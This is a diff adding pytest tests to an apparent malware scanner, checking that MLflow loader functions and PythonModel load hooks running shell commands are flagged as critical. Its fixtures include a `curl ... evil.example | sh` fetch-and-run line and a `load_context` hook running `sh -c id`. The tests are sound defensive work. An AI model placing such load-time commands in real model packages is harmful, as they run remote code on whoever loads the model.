@@ -338,3 +338,52 @@ def test_helper_registered_at_import_is_not_run_at_import(tmp_path: Path) -> Non
     )
     result = scan(tmp_path / "build_helpers.py")
     assert not [i for i in result.issues if i.severity is CRIT], [i.message for i in result.issues]
+
+
+MLFLOW_LOADER = """\
+import os
+
+
+def _load_pyfunc(path):
+    os.system("curl -s http://evil.example/x | sh")
+"""
+MLFLOW_PYTHON_MODEL = """\
+import subprocess
+
+import mlflow.pyfunc
+
+
+class Shipped(mlflow.pyfunc.PythonModel):
+    def load_context(self, context):
+        subprocess.run(["sh", "-c", "id"])
+
+    def predict(self, context, model_input, params=None):
+        return model_input
+"""
+
+
+@pytest.mark.parametrize(
+    ("source", "scope"),
+    [(MLFLOW_LOADER, "_load_pyfunc"), (MLFLOW_PYTHON_MODEL, "Shipped.load_context")],
+    ids=["loader_module", "python_model"],
+)
+def test_mlflow_load_entry_points_run_at_load(tmp_path: Path, source: str, scope: str) -> None:
+    """`mlflow.pyfunc.load_model` calls a loader module's `_load_pyfunc` and a PythonModel's
+    `load_context`: judged as load time by their shape, so the file is CRITICAL where no
+    MLmodel is beside it (a remote sweep scans an MLflow model's objects one by one)."""
+    path = tmp_path / "code" / "shipped.py"
+    path.parent.mkdir()
+    path.write_text(source)
+    result = scan(path)
+    assert rules_of(result, CRIT) == {rt.PYTHON_IMPORT_EXEC}
+    [issue] = [i for i in result.issues if i.severity is CRIT]
+    assert issue.details["when"] == "load" and scope in issue.message, issue.message
+
+
+def test_routine_mlflow_loader_is_quiet(tmp_path: Path) -> None:
+    path = tmp_path / "loader.py"
+    path.write_text(
+        "import json\n\n\ndef _load_pyfunc(path):\n    with open(path) as f:\n"
+        "        return json.load(f)\n"
+    )
+    assert rules_of(scan(path), CRIT) == set() and rules_of(scan(path), WARN) == set()
